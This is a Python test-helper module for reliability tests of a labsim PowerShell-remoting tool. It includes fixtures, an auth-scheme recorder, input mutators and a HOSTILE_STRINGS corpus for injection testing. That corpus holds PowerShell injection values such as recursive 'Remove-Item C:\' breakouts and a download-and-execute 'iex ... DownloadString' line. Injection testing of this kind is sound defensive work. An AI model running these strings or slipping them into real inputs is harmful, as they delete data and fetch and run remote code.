"""Shared helpers for the reliability tests (bad inputs, injection, secrets, transport security, soak).

    from tests.reliability.corpus import lab, HOSTILE_STRINGS, hostile_text, scheme_recorder

* :func:`lab` - labsim's default lab on free loopback addresses, with optional LabServer test hooks
  (``listener_certificate``, ``allow_unencrypted``), stopped afterwards.
* :func:`scheme_recorder` - records every HTTP Authorization scheme (Basic / Negotiate / CredSSP) that reached
  a labsim host, by wrapping ``labsim.auth.ConnectionAuth.authenticate`` (in-process servers only).
* :data:`HOSTILE_STRINGS` and :func:`hostile_text` - hand-picked and generated strings that would be code if a
  value were ever pasted into PowerShell text.
* :func:`walk_strings` - every str inside a nested value (for "no password anywhere" assertions).
"""

from __future__ import annotations

import contextlib
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, Literal
from unittest import mock

from hypothesis import strategies as st

DEFAULT_POLLING = 2.0


@contextlib.contextmanager
def lab(state_dir: Path, *, listener_certificate: Callable | None = None, allow_unencrypted: bool = True,
        **settings: Any) -> Iterator[Any]:
    """A LabServer on the default lab (free loopback addresses) with LabSettings ``settings`` applied."""
    from labsim.hosts import LabRuntime
    from labsim.lab import DEFAULT_LAB, Lab, load_lab
    from labsim.server import LabServer
    from labsim.testing import free_loopback_lab

    data = free_loopback_lab(load_lab(DEFAULT_LAB)).model_dump(mode="json")
    data.setdefault("settings", {}).update({"pep_polling_seconds": DEFAULT_POLLING, **settings})
    lab_ = Lab.model_validate(data)
    state_dir = Path(state_dir)
    state_dir.mkdir(parents=True, exist_ok=True)
    server = LabServer(lab_, LabRuntime.open(lab_, state_dir), state_dir, allow_unencrypted=allow_unencrypted,
                       listener_certificate=listener_certificate)
    server.start()
    try:
        yield server
    finally:
        server.stop()


class SchemeLog:
    """(host name, scheme lower-case) of every Authorization header a labsim host processed."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self.seen: list[tuple[str, str]] = []

    def add(self, host: str, scheme: str) -> None:
        with self._lock:
            self.seen.append((host, scheme))

    def hosts_with(self, scheme: str) -> set[str]:
        with self._lock:
            return {h for h, s in self.seen if s == scheme.lower()}

    def count(self, scheme: str | None = None) -> int:
        with self._lock:
            return sum(1 for _, s in self.seen if scheme is None or s == scheme.lower())


@contextlib.contextmanager
def scheme_recorder() -> Iterator[SchemeLog]:
    """Wrap labsim's per-connection authentication to record which schemes clients used."""
    from labsim import auth

    log = SchemeLog()
    original = auth.ConnectionAuth.authenticate

    def authenticate(self: auth.ConnectionAuth, authorization: str | None, *, encrypted: bool) -> auth.AuthResult:
        if authorization:
            log.add(self.host_auth.host.name, authorization.strip().partition(" ")[0].lower())
        return original(self, authorization, encrypted=encrypted)

    with mock.patch.object(auth.ConnectionAuth, "authenticate", authenticate):
        yield log


# -- hostile strings ------------------------------------------------------------------------------------------
# Each would be code (or break quoting) if pasted into PowerShell source: quotes, subexpressions, statement
# separators, backticks, line breaks, pipes, call operators, hashtables, redirection, here-strings, comments,
# Unicode quote look-alikes PowerShell also treats as quotes, and NUL.
HOSTILE_STRINGS: tuple[str, ...] = (
    "x'; Remove-Item C:\\ -Recurse; '",
    'x"; Remove-Item C:\\ -Recurse; "',
    "$(Remove-Item C:\\ -Recurse)",
    "${env:COMPUTERNAME}",
    "`whoami`",
    "a`nb`r`0",
    "line1\nRemove-Item C:\\\nline3",
    "cr\r\nlf",
    "a | Out-File C:\\pwned.txt",
    "a & calc.exe",
    "a && b || c",
    "@{Path='C:\\'; Recurse=$true}",
    "@(1,2,3)",
    "x > C:\\pwned.txt 2>&1",
    "# comment <# block #>",
    "@'\nhere-string\n'@",
    "\u2018smart\u2019 \u201cquotes\u201d \u201e",
    "\u00e9\u00e8\u00fc \u4e2d\u6587 \U0001f600 \u202eRTL",
    "nul\x00byte",
    "tab\tand\x0bvt\x0cff",
    "-Recurse",
    "C:\\Windows\\System32\\..\\..\\pwned",
    "'; & ([scriptblock]::Create('calc')) #",
    "\";iex (New-Object Net.WebClient).DownloadString('http://x');\"",
    "$null",
    "$true",
    "%PATH% ^& set",
    "{ Invoke-Expression 'x' }",
    "\\\\evil\\share\\x",
    "",
)

_HOSTILE_ALPHABET = "'\"`$(){}[]@;|&<>#\n\r\t\x00 \\/%^*?~!,.=+-_:" + "\u2018\u2019\u201c\u201d\u00e9\u4e2d\u202e"


def hostile_text(min_size: int = 1, max_size: int = 60, nul: bool = True) -> st.SearchStrategy[str]:
    """Generated strings biased towards PowerShell metacharacters, mixed with arbitrary Unicode."""
    alphabet = _HOSTILE_ALPHABET if nul else _HOSTILE_ALPHABET.replace("\x00", "")
    meta = st.text(alphabet=alphabet, min_size=min_size, max_size=max_size)
    blacklist: tuple[Literal["Cs", "Cc"], ...] = ("Cs",) if nul else ("Cs", "Cc")
    anything = st.text(alphabet=st.characters(blacklist_categories=blacklist), min_size=min_size, max_size=max_size)
    fixed = st.sampled_from([s for s in HOSTILE_STRINGS if len(s) >= min_size and (nul or "\x00" not in s)])
    mixed = st.builds(lambda a, b, c: a + b + c, fixed, meta, anything).filter(lambda s: len(s) >= min_size)
    return st.one_of(fixed, meta, mixed, anything)


def walk_strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield str(k)
            yield from walk_strings(v)
    elif isinstance(value, (list, tuple)):
        for v in value:
            yield from walk_strings(v)


# -- valid inputs of every remote resource, against a labsim server ------------------------------------------
RESOURCES = ("ConnectorSite", "Certificate", "ConnectorBundle", "TenantApiUpdate", "TenantApiTrust",
             "AzurePackConnector", "AzurePackConnector.share_connection")
PFX_PASSWORD = "Pfx-Pass-7a!"


def valid_resource_inputs(server: Any, resource: str, tmp_path: Path,
                          transport: Any) -> tuple[Any, dict[str, Any], str]:
    """(provider on ``transport``, valid props, name of the connection property of the host in question) for one
    remote resource on the lab. ``AzurePackConnector.share_connection`` is the same resource, focused on its
    share."""
    from providers import azure_pack_connector as apc
    from providers import bundle as B
    from providers import certificate as C
    from providers import connector_site as cs
    from providers import tenant_api_trust as trust
    from providers import tenant_api_update as update
    from tests.providers.conftest import host_connection

    wap = host_connection(server, "wapcomputer1")
    fqdn = server.lab.host("wapcomputer1").fqdn
    if resource == "ConnectorSite":
        return cs.ConnectorSiteProvider(transport), {
            "connection": wap, "tenant_portal_fqdn": fqdn, "tenant_api_fqdn": fqdn,
            "azure_stack_portal_fqdn": "portal.local.azurestack.external",
            "certificate_thumbprint": "AB" * 20, "bundle_path": "C:\\temp\\WAPConnector"}, "connection"
    if resource == "Certificate":
        leaf = _leaf()
        return C.CertificateProvider(transport), {
            "connection": wap, "store": "My", "cert_pem": leaf.pem, "pfx_base64": leaf.pfx_base64(PFX_PASSWORD),
            "pfx_password": PFX_PASSWORD, "serves_fqdns": [fqdn], "expiry_threshold_days": 30,
            "staging_dir": "C:\\temp"}, "connection"
    if resource == "ConnectorBundle":
        root = Path(tmp_path) / "bundle-src"
        if not root.exists():
            (root / "Setup").mkdir(parents=True)
            (root / "Setup" / "readme.txt").write_bytes(b"bundle\r\n")
        return B.ConnectorBundleProvider(transport), {
            "connection": wap, "source_dir": str(root), "destination": "C:\\temp\\WAPConnector",
            "chunk_size": 4096, "files": B.hash_tree(root)}, "connection"
    if resource == "TenantApiUpdate":
        return update.TenantApiUpdateProvider(transport), {
            "connection": wap, "bundle_path": "C:\\temp\\WAPConnector", "script_folder": "Packages",
            "expected_product_code": None}, "connection"
    if resource == "TenantApiTrust":
        return trust.TenantApiTrustProvider(transport), {
            "connection": wap, "data_file_content": DATA_FILE, "data_file_name": "AzurePack-06-27-15-50.txt",
            "bundle_path": "C:\\temp\\WAPConnector", "sql_server": None, "sql_credential": None,
            "realm": None}, "connection"
    if resource.startswith("AzurePackConnector"):
        props = {"connection": host_connection(server, "AzS-ERCS01"),
                 "share_connection": host_connection(server, "AzS-HOST"), "azure_stack_cloud_name": "AzureStack",
                 "clouds": [{"cloud_name": "AzurePack_1", "cloud_endpoint": "https://wapcomputer1.contoso.com:40005"}],
                 "timeout_seconds": 60.0}
        key = "share_connection" if resource.endswith("share_connection") else "connection"
        return apc.AzurePackConnectorProvider(transport), props, key
    raise KeyError(resource)


_LEAF: list[Any] = []


def _leaf() -> Any:
    from tests.cert_factory import make_ca, make_leaf

    if not _LEAF:
        _LEAF.append(make_leaf(make_ca("Reliability Test CA")))
    return _LEAF[0]


DATA_FILE = """{"CloudName": "AzurePack_1", "AzureStackCloudName": "AzureStack",
 "AzurePackConnectorEndpoint": "https://wapcomputer1.contoso.com:40005",
 "AuthenticationIdentityProviderPartner": {"Realm": "https://adfs.local.azurestack.external/adfs/6c1a0f4e-1111-2222-3333-444455556666/",
  "Certificate": "MIIBszCCAVmgAwIBAgIUQ2VydA=="}}"""


# -- mutations of nested inputs (bad-input corpus) -------------------------------------------------------------
BAD_SCALARS: tuple[object, ...] = (
    None, True, False, 0, -1, 65536, 70000, 1.5, float("nan"), float("inf"), "", " ", "bad..fqdn",
    "-lead.example.com", "a" * 300, "999.1.1.1", "x y.example.com", "h\u00f6st.example.com", "5986",
    "C:\\..\\x", "$(calc)", [], {}, [1, "a"], {"k": "v"})


def paths(value: Any, prefix: tuple = ()) -> list[tuple]:
    """Every path (tuple of dict keys / list indices) to a node under ``value`` (not the root)."""
    out: list[tuple] = []
    if isinstance(value, dict):
        for k, v in value.items():
            out.append(prefix + (k,))
            out += paths(v, prefix + (k,))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            out.append(prefix + (i,))
            out += paths(v, prefix + (i,))
    return out


def get_at(value: Any, path: tuple) -> Any:
    for p in path:
        value = value[p]
    return value


def mutate(value: Any, path: tuple, op: str, new: Any = None) -> Any:
    """A deep copy of ``value`` with the node at ``path`` deleted ("delete"), replaced by ``new`` ("replace"),
    or given an extra key ``new`` ("extra", dicts; on other nodes the parent dict gets it)."""
    import copy

    out = copy.deepcopy(value)
    parent = get_at(out, path[:-1])
    key = path[-1]
    if op == "delete":
        del parent[key]
    elif op == "replace":
        parent[key] = new
    elif op == "extra":
        target = parent[key] if isinstance(parent[key], dict) else parent
        if isinstance(target, dict):
            target[new] = "unexpected"
        else:
            parent[key] = new
    else:
        raise ValueError(op)
    return out


def mutated_at(value: Any, path: tuple, op: str, new: Any = None) -> tuple:
    """Where :func:`mutate` changed ``value``: the path, or for "extra" the path of the key it added."""
    if op != "extra":
        return path
    node = get_at(value, path)
    if isinstance(node, dict):
        return path + (new,)
    return path[:-1] + (new,) if isinstance(get_at(value, path[:-1]), dict) else path


def mutation_strategy(valid: Any, extra_values: tuple = ()) -> st.SearchStrategy[tuple[tuple, str, Any]]:
    """(path, op, value) mutations of ``valid``: deletions, wrong types, out-of-range and malformed values,
    unknown keys."""
    all_paths = paths(valid)
    values = st.one_of(st.sampled_from(BAD_SCALARS + tuple(extra_values)),
                       st.integers(-2**40, 2**40), st.text(max_size=30),
                       st.lists(st.text(max_size=5), max_size=3),
                       st.dictionaries(st.text(min_size=1, max_size=8), st.integers(), max_size=2))
    return st.tuples(st.sampled_from(all_paths), st.sampled_from(["delete", "replace", "replace", "replace", "extra"]),
                     values).map(lambda t: (t[0], t[1], t[2] if t[1] != "extra" else "bogusSetting"))
